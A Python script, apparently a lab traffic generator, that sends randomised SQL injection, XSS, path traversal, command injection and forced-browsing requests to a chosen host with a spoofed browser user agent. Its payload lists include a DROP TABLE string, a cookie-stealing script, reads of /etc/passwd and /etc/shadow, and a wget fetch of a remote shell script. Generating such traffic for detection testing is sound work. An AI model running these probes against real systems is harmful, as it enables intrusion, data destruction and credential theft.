#!/usr/bin/env python3
"""Web application attack probes: SQL injection, XSS, path traversal, command
injection and forced browsing against the lab's nginx. Bounded by --count and
--deadline. The user agent is a browser's, as attackers often send."""
import argparse, http.client, random, time, urllib.parse

SQLI = ["' OR '1'='1", "1' OR 1=1-- -", "1 UNION SELECT null,username,password FROM users--",
        "admin'--", "1; DROP TABLE users", "' AND SLEEP(5)--", "1' AND extractvalue(1,concat(0x7e,version()))--",
        "\" OR \"\"=\"", "1) OR (1=1", "' UNION ALL SELECT table_name FROM information_schema.tables--"]
XSS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(document.cookie)>",
       "<svg/onload=alert(1)>", "javascript:alert(1)", "'><iframe src=//x>"]
TRAV = ["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts",
        "/%2e%2e/%2e%2e/%2e%2e/windows/win.ini", "..\\..\\..\\boot.ini"]
CMDI = [";cat /etc/passwd", "|id", "`uname -a`", "$(wget http://x/s.sh)", "&& whoami"]
DIRS = ["admin", "wp-admin", "wp-login.php", "phpmyadmin", ".git/config", ".env", "backup.zip",
        "config.php.bak", "server-status", "cgi-bin/test.cgi", "login", "api/v1/users", "db.sql",
        "manager/html", "actuator/env", "console", "debug", "old", "test", "uploads", "xmlrpc.php"]
PARAMS = ["id", "q", "search", "page", "file", "user", "cat", "item", "lang", "redirect"]
PAGES = ["index.php", "search", "product", "view.php", "login.php", "item", "download.php", "api/query"]

ap = argparse.ArgumentParser()
ap.add_argument("--target", required=True)
ap.add_argument("--port", type=int, default=80)
ap.add_argument("--count", type=int, default=200)
ap.add_argument("--deadline", type=float, default=40)
ap.add_argument("--seed", type=int, default=0)
ap.add_argument("--delay", type=float, default=0.05)
a = ap.parse_args()
rng = random.Random(a.seed)
ua = rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/119.0 Safari/537.36",
                 "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0",
                 "Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 Safari/605.1.15"])
keep = rng.random() < 0.4   # keep-alive, with a fresh connection every 5-40 requests
end = time.time() + a.deadline
conn = None
for i in range(a.count):
    if time.time() > end:
        break
    kind = rng.choice(["sqli", "sqli", "xss", "trav", "cmdi", "dir", "dir"])
    if kind == "dir":
        path, body, method = "/" + rng.choice(DIRS), None, "GET"
    else:
        pay = rng.choice({"sqli": SQLI, "xss": XSS, "trav": TRAV, "cmdi": CMDI}[kind])
        q = urllib.parse.urlencode({rng.choice(PARAMS): pay})
        if rng.random() < 0.25:
            path, body, method = "/" + rng.choice(PAGES), q, "POST"
        else:
            path, body, method = "/" + rng.choice(PAGES) + "?" + q, None, "GET"
    try:
        if conn is None:
            conn = http.client.HTTPConnection(a.target, a.port, timeout=5)
        hdr = {"User-Agent": ua, "Accept": "*/*"}
        if body:
            hdr["Content-Type"] = "application/x-www-form-urlencoded"
        if not keep:
            hdr["Connection"] = "close"
        conn.request(method, path, body=body, headers=hdr)
        conn.getresponse().read()
        if not keep or rng.random() < 1 / rng.randint(5, 40):
            conn.close(); conn = None
    except Exception:
        conn = None
    time.sleep(rng.expovariate(1 / a.delay) if a.delay > 0 else 0)
